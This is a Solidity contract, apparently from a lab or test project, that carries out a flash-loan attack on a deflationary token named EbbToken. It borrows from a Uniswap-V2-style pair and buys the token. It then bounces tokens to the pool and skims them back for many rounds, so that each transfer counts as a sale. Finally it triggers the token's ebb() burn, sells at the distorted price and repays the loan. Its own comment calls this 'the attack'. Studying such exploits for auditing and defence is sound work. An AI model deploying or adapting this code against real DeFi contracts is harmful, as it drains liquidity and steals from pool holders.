// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IPair} from "../common/IPair.sol";
import {EbbToken} from "./EbbToken.sol";

/// @title Buys with a flash loan, makes the token ebb, sells.
/// @notice Once, with a fair sum, it is a trader who does the token's upkeep on the way. With rounds of sending tokens to the pair and
/// skimming them back, each of which counts as a sale, it is the attack.
contract EbbTrader {
    EbbToken private immutable _token;
    IERC20 private immutable _money;
    IPair private immutable _pair;
    IPair private immutable _lender;
    address private immutable _owner;

    constructor(EbbToken token, IERC20 money, IPair lender) {
        (_token, _money, _pair, _lender, _owner) = (token, money, token.pair(), lender, msg.sender);
    }

    /// @param own Money of the owner's that goes along.
    /// @param bounced Tokens that travel to the pair and back, as often as there are rounds.
    function trade(uint256 own, uint256 loan, uint256 bounced, uint256 rounds) external {
        require(msg.sender == _owner);
        _money.transferFrom(_owner, address(this), own);
        bool first = _lender.token0() == address(_money);
        _lender.swap(first ? loan : 0, first ? 0 : loan, address(this), abi.encode(loan, bounced, rounds));
        _money.transfer(_owner, _money.balanceOf(address(this)));
    }

    function uniswapV2Call(address, uint256, uint256, bytes calldata data) external {
        require(msg.sender == address(_lender));
        (uint256 loan, uint256 bounced, uint256 rounds) = abi.decode(data, (uint256, uint256, uint256));
        _swap(_money, loan);
        for (uint256 i = 0; i < rounds; i++) {
            _token.transfer(address(_pair), bounced);
            _pair.skim(address(this));
        }
        _token.ebb();
        _swap(_token, _token.balanceOf(address(this)));
        _money.transfer(address(_lender), (loan * 1000) / 997 + 1);
    }

    function _swap(IERC20 from, uint256 amount) private {
        bool first = _pair.token0() == address(from);
        (uint112 reserve0, uint112 reserve1,) = _pair.getReserves();
        (uint256 have, uint256 want) = first ? (uint256(reserve0), uint256(reserve1)) : (uint256(reserve1), uint256(reserve0));
        from.transfer(address(_pair), amount);
        uint256 paid = (amount * 997 * want) / (have * 1000 + amount * 997);
        _pair.swap(first ? 0 : paid, first ? paid : 0, address(this), "");
    }
}
